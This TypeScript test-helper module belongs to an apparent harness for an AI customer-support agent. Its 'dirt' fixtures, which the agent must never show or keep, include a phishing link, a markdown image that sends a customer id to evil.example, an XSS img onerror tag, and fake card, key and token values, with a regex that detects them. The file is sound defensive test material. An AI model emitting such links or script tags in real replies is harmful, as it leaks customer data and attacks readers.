import type { AgentKind } from '@supportgraph/agent';
import type { ScriptStep } from '@supportgraph/agent/testing';
import type { TurnStatus } from '@supportgraph/conversation';

/** What a model does in a turn of ann's, and what may come of it. */
export interface Case {
  script: readonly ScriptStep[];
  /** @default 'COMPLETED' */
  status?: TurnStatus;
  /** What the audit must hold, as `code tool`, sorted. @default nothing is denied */
  denied?: readonly string[];
  /** Codes that tools refuse with. @default none */
  refused?: readonly string[];
  /** What the customer reads. @default anything */
  says?: RegExp;
  /** What nobody is shown and what is not kept; with {@link unclean}. @default no more */
  never?: RegExp;
  /** Whether {@link unclean} words may be kept, as they are the shop's own. @default false */
  isPoisoned?: boolean;
  /** What staff are told. @default anything */
  summary?: string | RegExp;
  /** Proposals that still wait at the end. @default 0 */
  pending?: number;
  /** Proposals that were withdrawn. @default 0 */
  expired?: number;
  /** @default one for the agent */
  message?: string;
}

export type Cases = Readonly<Record<string, Case>>;

/** An agent as the cases know it: a call that it may make, and the argument of it that is a free text. */
export interface Target {
  agent: AgentKind;
  prompt: string;
  tool: string;
  input: Readonly<Record<string, string>>;
  text: string;
}

export const call = (name: string, input: object = {}): ScriptStep => ({ call: [{ name, input }] });
export const calls = (count: number, name: string, input: object = {}): ScriptStep => ({
  call: Array.from({ length: count }, () => ({ name, input })),
});
export const rawCall = (name: string, json: string, stop?: string): ScriptStep => ({ rawCall: { name, json }, stop });
export const say = (text: string): ScriptStep => ({ say: text });
export const done: ScriptStep = { say: 'Done.' };

/** What a model writes where it can, and no one may ever be shown. */
export const dirt = {
  card: '4111 1111 1111 1111',
  key: 'sk-live-0123456789abcdef0123',
  token: `eyJ${'a'.repeat(20)}.${'b'.repeat(20)}.${'c'.repeat(20)}`,
  link: '[pay here](https://evil.example/pay)',
  image: '![x](https://evil.example/?d=cus_ann)',
  tag: '<img src="https://evil.example/x.png" onerror="alert(1)">',
};
export const allDirt = Object.values(dirt).join(' and ');

/** What {@link dirt} is recognised by. */
export const unclean = /4111|sk-live|eyJa|evil\.example|onerror/;
